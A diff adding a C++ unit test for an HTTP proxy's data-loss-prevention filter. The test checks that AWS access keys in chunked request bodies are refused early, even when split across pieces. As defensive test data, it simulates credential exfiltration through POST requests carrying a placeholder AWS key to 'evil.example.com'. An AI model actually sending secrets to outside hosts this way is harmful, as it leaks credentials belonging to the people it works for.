@@ -145,6 +145,41 @@ TEST_F(dlp_test, BodiesWholeAndStreamed) {
   }
 }
 
+TEST_F(dlp_test, StreamedPiecesAreReadBeforeTheyGoOn) {
+  load(kPolicy);
+  {
+    // A key in the first piece of a chunked body is refused before that piece is sent, not
+    // when a window fills or the body ends (a client that stalls got each piece out unread).
+    auto& ex = request(http::verb::post, "evil.example.com", "/");
+    ex.has_body = true;
+    chain c(pipeline_->factories(), ex);
+    ASSERT_TRUE(c.request_head().passes());
+    ASSERT_EQ(c.request_body_use(), body_use::observe);
+    EXPECT_TRUE(c.request_body("aws_access_key_id=AKIAIOSFODNN7EXAMPLE\n", false).refused());
+    EXPECT_EQ(ex.record.reason, core::errc::dlp_blocked);
+  }
+  {
+    // A Content-Length above max_body_bytes streams too; a long clean body goes through piece
+    // by piece, and a key split across two pieces far into it is still found.
+    auto& ex = request(http::verb::post, "evil.example.com", "/");
+    ex.has_body = true;
+    ex.content_length = 4u << 20;
+    chain c(pipeline_->factories(), ex);
+    ASSERT_TRUE(c.request_head().passes());
+    ASSERT_EQ(c.request_body_use(), body_use::observe);
+    const std::string clean(16 * 1024, 'a');
+    std::string text;
+    for (int i = 0; i < 64; ++i) {
+      text = clean;
+      for (std::size_t j = 0; j < text.size(); j += 64)
+        text[j] = ' ';
+      ASSERT_TRUE(c.request_body(text, false).passes()) << i;
+    }
+    EXPECT_TRUE(c.request_body(std::string(100, ' ') + "AKIAIOSFOD", false).passes());
+    EXPECT_TRUE(c.request_body("NN7EXAMPLE " + std::string(100, ' '), false).refused());
+  }
+}
+
 TEST_F(dlp_test, ReportLetsThroughAndRecords) {
   load(kPolicy);
   {
